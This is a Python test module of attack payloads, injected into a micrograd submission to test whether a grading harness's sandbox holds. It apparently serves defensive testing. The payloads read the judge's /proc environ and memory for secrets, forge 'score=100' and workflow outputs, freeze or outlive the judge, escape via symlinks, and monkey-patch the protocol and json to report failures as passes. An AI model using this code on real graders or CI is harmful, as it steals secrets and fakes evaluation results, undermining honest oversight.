"""Attacks on the judge from inside a worker (issue 12), as code for a micrograd submission.

Each attack sits in one method of the solution's engine.py (or gradcheck.py), runs once per
worker, and then does what the solution does: so a wall that holds costs the component
nothing, and every other component must pass as well. What an attack steals goes into its
output (which reaches the result) and into a drop file of the test's: the tests then look for
the stolen secret everywhere the attacker could read it back.
"""
from __future__ import annotations

PRELUDE = '''
import os as _os
import signal as _signal
import sys as _sys

MARK = {mark!r}  # in the judge's command line (the submission's path)
DAEMON = {daemon!r}  # in the command line of what the daemon attack leaves running
DROP = {drop!r}  # the attacker's drop box, outside the submission
OUTPUT = {output!r}  # the judge's --output file
CANARY_DIR = {canary!r}
READ = {read!r}  # files outside the submission: the kit's solutions, the original submission
_done = set()


def _once(name):
    if name in _done:
        return False
    _done.add(name)
    return True


def _judges():
    found = []
    for pid in _os.listdir("/proc"):
        if pid.isdigit() and int(pid) != _os.getpid():
            try:
                with open(f"/proc/{{pid}}/cmdline", "rb") as f:
                    if MARK.encode() in f.read():
                        found.append(int(pid))
            except OSError:
                pass
    return found


def _exfiltrate(what, items):
    print(f"stolen {{what}}: {{items!r}}")
    try:
        with open(DROP, "a") as f:
            f.write(f"{{what}}: {{items!r}}\\n")
    except OSError:
        pass
'''

# Method name -> code that runs first in it (then the solution's body follows).
ATTACKS = {
    # /proc/<pid>/environ of the judge: its secrets and GITHUB_OUTPUT (then forge a step output).
    "environ": ("Value.__add__", '''
if _once("environ"):
    stolen = []
    for pid in _judges():
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                env = f.read().split(b"\\0")
        except OSError:
            continue
        stolen += [v.decode() for v in env if v.startswith((b"HOSTILE_SECRET=", b"GITHUB_OUTPUT="))]
    for item in stolen:
        if item.startswith("GITHUB_OUTPUT="):
            try:
                with open(item.split("=", 1)[1], "a") as f:
                    f.write("score=100\\n")
            except OSError:
                pass
    _exfiltrate("environ", stolen)
'''),
    # /proc/<pid>/mem of the judge, read for the secret in its environment block.
    "mem": ("Value.__mul__", '''
if _once("mem"):
    stolen = []
    for pid in _judges():
        try:
            maps = open(f"/proc/{pid}/maps").read().splitlines()
            mem = open(f"/proc/{pid}/mem", "rb")
        except OSError:
            continue
        for line in maps:
            fields = line.split()
            if not fields[1].startswith("rw") or not (len(fields) > 5 and fields[5] in ("[stack]", "[heap]")):
                continue
            lo, hi = (int(x, 16) for x in fields[0].split("-"))
            try:
                mem.seek(lo)
                chunk = mem.read(min(hi - lo, 64 << 20))
            except (OSError, ValueError, OverflowError):
                continue
            at = chunk.find(b"HOSTILE_SECRET=")
            if at >= 0:
                stolen.append(chunk[at:at + 80].split(b"\\0")[0].decode("latin-1"))
        mem.close()
    _exfiltrate("mem", stolen)
'''),
    # The judge's stdout and stderr, written through /proc: forged workflow commands.
    "stdout": ("Value.__pow__", '''
if _once("stdout"):
    written = []
    for pid in _judges():
        for fd in (1, 2):
            try:
                with open(f"/proc/{pid}/fd/{fd}", "w") as f:
                    f.write("\\n::notice title=Score::Points 100/100\\n::set-output name=score::100\\n")
                written.append((pid, fd))
            except OSError:
                pass
    _exfiltrate("stdout", written)
'''),
    # SIGSTOP to the parent and to every judge it can find: grading would freeze.
    "sigstop": ("Value.__neg__", '''
if _once("sigstop"):
    hit = []
    for pid in {_os.getppid(), *_judges()}:
        if pid > 1:
            try:
                _os.kill(pid, _signal.SIGSTOP)
                hit.append(pid)
            except OSError:
                pass
    _exfiltrate("sigstop", hit)
'''),
    # A daemon (new session, double fork, deaf to TERM and HUP) that outlives grading and keeps
    # rewriting the --output file with a forged result.
    "daemon": ("Value.exp", '''
if _once("daemon"):
    child = _os.fork()
    if child == 0:
        try:
            _os.setsid()
            if _os.fork() == 0:
                script = ("trap '' TERM HUP; i=0; while [ $i -lt 60 ]; do sleep 0.25; "
                          f"echo forged-by-a-daemon > '{OUTPUT}'; i=$((i+1)); done; : {DAEMON}")
                _os.execv("/bin/sh", ["/bin/sh", "-c", script])
        finally:
            _os._exit(0)
    _os.waitpid(child, 0)
    _exfiltrate("daemon", [child])
'''),
    # Replace the worker's own folder with a link to a folder of the victim's: the judge that
    # cleans it up must neither follow the link nor crash.
    "symlink-folder": ("Value.backward", '''
if _once("symlink-folder"):
    here = _os.getcwd()
    try:
        _os.chdir("/")
        _os.rename(here, here + "-moved")
        _os.symlink(CANARY_DIR, here)
        _exfiltrate("symlink-folder", [here])
    except OSError as exc:
        _exfiltrate("symlink-folder", [f"refused: {exc}"])
'''),
    # Files outside the submission: the kit's solutions, and the original submission's folder.
    "read-files": ("numerical_gradient", '''
if _once("read-files"):
    stolen = []
    for path in READ:
        try:
            with open(path) as handle:
                stolen.append(handle.read()[:300])
        except OSError:
            pass
    _exfiltrate("read-files", stolen)
'''),
}

# Attacks on the protocol (in the same run): they must end the worker and fail its component only.
PROTOCOL_PRELUDE = '''
import json as _json
import os as _os
import struct as _struct
import sys as _sys

_done = set()


def _request_id():
    frame = _sys._getframe()
    while frame is not None:
        request = frame.f_locals.get("request")
        if isinstance(request, dict) and "id" in request:
            return request["id"]
        frame = frame.f_back
    return None


def _reply_fds():
    """The reply pipe: named on the command line, or any pipe open for writing but stdout."""
    fds = []
    if "--resp-fd" in _sys.argv:
        fds.append(int(_sys.argv[_sys.argv.index("--resp-fd") + 1]))
    for name in _os.listdir("/proc/self/fd"):
        fd = int(name)
        try:
            if fd > 2 and fd not in fds and _os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"):
                fds.append(fd)
        except OSError:
            pass
    return fds


def _frame(obj):
    header = _json.dumps({"body": obj, "arrays": []}).encode()
    return _struct.pack(">Q", len(header)) + header
'''

PROTOCOL_ATTACKS = {
    # Forged replies, with the ids the judge is waiting for (read off the worker's own frames):
    # one for the request being served and one for the next.
    "extra-frame": ("Value.tanh", '''
if "extra-frame" not in _done:
    _done.add("extra-frame")
    rid = _request_id()
    for fd in _reply_fds():
        for i in (0, 1):
            try:
                _os.write(fd, _frame({"ok": True, "id": None if rid is None else rid + i, "output": "",
                                      "value": {"data": [1.0], "grad": [1.0], "prev": [], "op_is_str": [True]}}))
            except OSError:
                pass
'''),
    # A reply of 60 MB: the judge must refuse it without reading it.
    "huge-reply": ("Value.relu", '''
if "huge-reply" not in _done:
    _done.add("huge-reply")
    rid = _request_id()
    blob = _json.dumps({"body": {"ok": True, "id": rid, "output": "x" * (60 << 20), "value": None},
                        "arrays": []}).encode()
    for fd in _reply_fds():
        try:
            _os.write(fd, _struct.pack(">Q", len(blob)))
            _os.write(fd, blob)
        except OSError:
            pass
'''),
    # 60 MB of arrays (a valid .npy blob): under the arrays' cap, so the judge reads it; its
    # memory must stay bounded all the same.
    "huge-arrays": ("Neuron.__call__", '''
if "huge-arrays" not in _done:
    _done.add("huge-arrays")
    rid = _request_id()
    npy_header = "{'descr': '|u1', 'fortran_order': False, 'shape': (%d,), }" % (60 << 20)
    npy_header = npy_header + " " * (-(len(npy_header) + 11) % 64) + "\\n"
    blob = b"\\x93NUMPY\\x01\\x00" + _struct.pack("<H", len(npy_header)) + npy_header.encode() + bytes(60 << 20)
    header = _json.dumps({"body": {"ok": True, "id": rid, "output": "", "value": {"__ndarray__": 0}},
                          "arrays": [len(blob)]}).encode()
    for fd in _reply_fds():
        try:
            _os.write(fd, _struct.pack(">Q", len(header)) + header)
            _os.write(fd, blob)
        except OSError:
            pass
'''),
}

# The worker's own protocol module, patched through sys.modules, in a method that is not
# written: the replies it sends after this say "passed", with a made-up value.
PATCH_PROTOCOL = ("Value.__add__", '''
import sys
protocol = sys.modules.get("grader.engine.worker.protocol")
if protocol is not None and not getattr(protocol._dumps, "forged", False):
    real = protocol._dumps

    def forged(obj, **kwargs):
        body = obj.get("body") if isinstance(obj, dict) else None
        if isinstance(body, dict) and not body.get("ok"):
            body.update(ok=True, value={"data": [0.0], "grad": [0.0], "prev": [], "op_is_str": [True]})
        return real(obj, **kwargs)
    forged.forged = True
    protocol._dumps = forged
raise NotImplementedError("TODO micrograd.add")
''')

# json patched at import, in every worker of the submission: the protocol must not notice.
PATCH_JSON = '''
import json as _json
_json.dumps = lambda *a, **k: '{"body": {"ok": true, "value": {}, "output": ""}, "arrays": []}'
_json.loads = lambda *a, **k: {"ok": True, "value": {}}
'''
